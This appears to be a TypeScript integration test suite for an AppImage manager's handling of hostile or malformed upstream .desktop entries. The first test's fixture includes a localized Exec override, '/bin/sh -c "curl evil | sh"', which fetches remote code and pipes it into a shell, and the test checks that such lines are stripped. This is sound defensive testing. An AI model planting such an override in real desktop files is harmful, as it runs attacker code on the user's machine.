// Upstream desktop entries that are hostile or broken, end to end: localized Exec keys, entries that
// ask not to be integrated, and entries that miss keys the Desktop Entry spec requires. Whatever we
// write must pass desktop-file-validate.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  desktopFileValidate,
  exists,
  key,
  listDir,
  parseDesktop,
  useIntegrationSuite,
  type World,
} from './harness.js';
import type { CliRun } from '../../helpers/run-cli.js';
import type { UpdateJson } from '../../helpers/update-json.js';
import { fixtureAppImage } from '../../helpers/fixture-appimages.js';
import { publishHubRelease } from '../../helpers/hub-release.js';
import { appOf } from '../../helpers/json-output.js';

const suite = useIntegrationSuite();

/** Publishes `app` 1.0 shipping `desktop`, writes its recipe and runs `update` (which must exit 0). */
async function installWith(w: World, app: string, desktop: string): Promise<CliRun<UpdateJson>> {
  publishHubRelease(suite.sim, app, '1.0', await fixtureAppImage(app, '1.0', { desktop }));
  await w.recipe(app);
  const r = await w.update();
  assert.equal(r.code, 0, r.stderr);
  return r;
}

async function assertValid(path: string): Promise<void> {
  const v = await desktopFileValidate(path);
  assert.equal(v.code, 0, v.output);
  assert.doesNotMatch(v.output, /error/i);
}

void describe('upstream desktop entries that are hostile or broken', () => {
  void test('localized Exec/TryExec keys are dropped and every Exec of every group is rewritten', async () => {
    const w = await suite.world();
    const app = 'polyglot';
    const desktop = [
      '[Desktop Entry]',
      'Type=Application',
      'Name=Polyglot',
      `Exec=${app} %U`,
      'Exec[de]=/bin/sh -c "curl evil | sh"',
      'TryExec=polyglot',
      'TryExec[fr]=/bin/sh',
      'Icon=polyglot',
      'Categories=Utility;',
      'Actions=again;',
      '',
      '[Desktop Action again]',
      'Name=Again',
      `Exec=${app} --again`,
      'Exec[de_DE@euro]=/bin/sh -c evil',
      '',
      '[X-Vendor Launcher]',
      'Exec=/bin/sh -c vendor',
      'Exec[it]=/bin/sh -c vendor-it',
      '',
    ].join('\n');
    await installWith(w, app, desktop);
    const file = join(w.applicationsDir, `${app}.desktop`);
    const text = await readFile(file, 'utf8');
    assert.doesNotMatch(text, /^(Try)?Exec\[/m);
    assert.doesNotMatch(text, /\/bin\/sh/);
    const exe = join(w.storageDir, `${app}.AppImage`);
    const g = parseDesktop(text);
    assert.equal(key(g, 'Desktop Entry', 'Exec'), `${exe} %U`);
    assert.equal(key(g, 'Desktop Action again', 'Exec'), `${exe} --again`);
    assert.equal(key(g, 'X-Vendor Launcher', 'Exec'), `${exe} -c vendor`);
    await assertValid(file);
  });

  void test('X-AppImage-Integrate=false: no entry and no icon, and the outcome says so; an earlier entry goes', async () => {
    const w = await suite.world();
    const app = 'shy';
    publishHubRelease(suite.sim, app, '1.0', await fixtureAppImage(app, '1.0'));
    await w.recipe(app);
    assert.equal((await w.update()).code, 0);
    assert.ok(await exists(join(w.applicationsDir, `${app}.desktop`)));

    const desktop = [
      '[Desktop Entry]',
      'Type=Application',
      'Name=Shy',
      `Exec=${app}`,
      `Icon=${app}`,
      'Categories=Utility;',
      'X-AppImage-Integrate=false',
      '',
    ].join('\n');
    publishHubRelease(suite.sim, app, '2.0', await fixtureAppImage(app, '2.0', { desktop }));
    const r = await w.update();
    assert.equal(r.code, 0, r.stderr);
    const o = appOf(r, app);
    assert.equal(o.status, 'updated');
    assert.equal(o.desktop?.skipped, 'the AppImage asks not to be integrated (X-AppImage-Integrate=false)');
    assert.deepEqual(await listDir(w.applicationsDir), []);
    assert.deepEqual(await listDir(w.hicolorDir), []);
    assert.equal((await w.state()).apps[app]?.integration, undefined);
    const human = await w.cli(['update', app, '--force']);
    assert.match(human.stdout, /no desktop entry: the AppImage asks not to be integrated/);
    assert.deepEqual(await listDir(w.applicationsDir), []);
  });

  void test('an entry without Type= gets Type=Application (and Name) and passes desktop-file-validate', async () => {
    const w = await suite.world();
    const app = 'broken';
    // Shaped like libappimage's broken-desktop-file test image: no Type, and worse.
    const desktop = [
      '[Desktop Entry]',
      `Exec=${app} %F`,
      'Name[de]=Kaputt',
      `Icon=${app}`,
      'Comment=an entry with problems',
      'Categories=Utility;NotACategory;',
      'Terminal=maybe',
      'Frobnicate=yes',
      'Encoding=UTF-8',
      'Actions=one;missing;',
      '',
      '[Desktop Action one]',
      'Name=One',
      `Exec=${app} --one`,
      '',
      '[Desktop Action unlisted]',
      'Name=Unlisted',
      `Exec=${app} --unlisted`,
      '',
      '[Vendor Group]',
      'Key=value',
      '',
    ].join('\n');
    const r = await installWith(w, app, desktop);
    const o = appOf(r, app);
    assert.equal(o.status, 'updated');
    assert.match(o.warnings.join('\n'), /added Type=Application/);
    assert.match(o.warnings.join('\n'), /added Name=broken/);
    const file = join(w.applicationsDir, `${app}.desktop`);
    const g = parseDesktop(await readFile(file, 'utf8'));
    assert.equal(key(g, 'Desktop Entry', 'Type'), 'Application');
    assert.equal(key(g, 'Desktop Entry', 'Name'), app);
    assert.equal(key(g, 'Desktop Entry', 'Name[de]'), 'Kaputt');
    assert.equal(key(g, 'Desktop Entry', 'Categories'), 'Utility;');
    assert.equal(key(g, 'Desktop Entry', 'Actions'), 'one;');
    assert.deepEqual([...g.keys()], ['Desktop Entry', 'Desktop Action one']);
    await assertValid(file);
  });

  void test('an entry of another Type (Link) is not installed: skipped with a warning', async () => {
    const w = await suite.world();
    const app = 'linky';
    const desktop = ['[Desktop Entry]', 'Type=Link', 'Name=Linky', 'URL=https://example.invalid/', ''].join(
      '\n',
    );
    const r = await installWith(w, app, desktop);
    const o = appOf(r, app);
    assert.equal(o.status, 'updated');
    assert.match(o.warnings.join('\n'), /Type=Link.*not an application/);
    assert.deepEqual(await listDir(w.applicationsDir), []);
    assert.equal((await w.state()).apps[app]?.integration, undefined);
  });
});
